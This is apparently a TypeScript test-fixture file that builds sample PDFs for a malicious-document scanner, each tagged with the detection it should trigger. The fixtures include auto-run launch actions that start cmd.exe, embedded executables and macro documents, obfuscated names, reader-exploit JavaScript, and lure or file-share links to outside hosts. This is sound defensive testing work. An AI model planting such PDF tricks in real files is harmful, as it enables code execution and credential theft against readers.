// PDFs that run, open and submit.
import { wordDocument } from '../../write-office.ts'
import { onePage, writePdf } from '../../write-pdf.ts'
import type { Suspect } from '../suspect.ts'
import { bad, file, macro, program } from './document.ts'

const LAUNCH = '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'

/** As most programs write them since PDF 1.5: the objects of these texts within a stream, numbered from `first` on. */
function objectStream(first: number, texts: readonly string[]): Parameters<typeof writePdf>[0][number] {
  const places = texts.map((_, at) => texts.slice(0, at).join(' ').length + (at === 0 ? 0 : 1))
  const head = `${places.map((place, at) => `${first + at} ${place}`).join(' ')} `
  const dictionary = `<< /Type /ObjStm /N ${texts.length} /First ${head.length} >>`
  return { dictionary, stream: head + texts.join(' '), flate: true }
}

export const pdfs: readonly Suspect[] = [
  file(
    'launch.pdf',
    'malicious',
    ['pdf_launches_program'],
    writePdf(onePage('Hello', { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' })),
  ),
  file(
    'launch-from-object-stream.pdf',
    'malicious',
    ['pdf_launches_program'],
    writePdf([...onePage('Hello', { catalog: '/OpenAction 11 0 R' }), objectStream(10, ['<< /Title (A) >>', LAUNCH])]),
  ),
  file(
    'export.pdf',
    'malicious',
    ['pdf_embeds_program', 'pdf_script_exports_file'],
    writePdf([
      ...onePage('Hello', { catalog: '/OpenAction 5 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>' }),
      { dictionary: '<< /S /JavaScript /JS (this.exportDataObject\\({cName:"a.exe",nLaunch:2}\\);) >>' },
      { dictionary: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>' },
      { dictionary: '<< /Type /EmbeddedFile >>', stream: program, flate: true },
    ]),
  ),
  file(
    'disguised.pdf',
    'suspicious',
    ['pdf_names_are_disguised'],
    writePdf([
      ...onePage('Hello', { catalog: '/Open#41ction 5 0 R' }),
      { dictionary: '<< /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>' },
    ]),
  ),
  file(
    'macro-inside.pdf',
    'suspicious',
    ['pdf_embeds_macro_document'],
    writePdf([
      ...onePage('Open the attachment'),
      { dictionary: '<< /Type /Filespec /F (a.docm) /EF << /F 6 0 R >> >>' },
      {
        dictionary: '<< /Type /EmbeddedFile >>',
        stream: wordDocument('', {}, macro('Sub AutoOpen()\n Shell "calc"\nEnd Sub')),
        flate: true,
      },
    ]),
  ),
  file(
    'exploit.pdf',
    'suspicious',
    ['script_exploits_reader'],
    writePdf([
      ...onePage('Hello', { catalog: '/OpenAction 5 0 R' }),
      { dictionary: '<< /S /JavaScript /JS 6 0 R >>' },
      {
        dictionary: '<< >>',
        stream: 'var n=unescape("%u9090%u9090");util.printf("%45000f", 1);Collab.getIcon("a");',
        flate: true,
      },
    ]),
  ),
  file(
    'lure.pdf',
    'suspicious',
    ['pdf_links_to_program'],
    writePdf(
      onePage('Click here to view the secure document', {
        page: `/Annots [<< /Subtype /Link /A << /S /URI /URI (${bad}/invoice.js) >> >>]`,
      }),
    ),
  ),
  file(
    'share.pdf',
    'suspicious',
    ['pdf_reaches_file_share'],
    writePdf(
      onePage('Hello', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\203.0.113.7\\\\s\\\\x.pdf) /D [0 /Fit] >>' }),
    ),
  ),
]
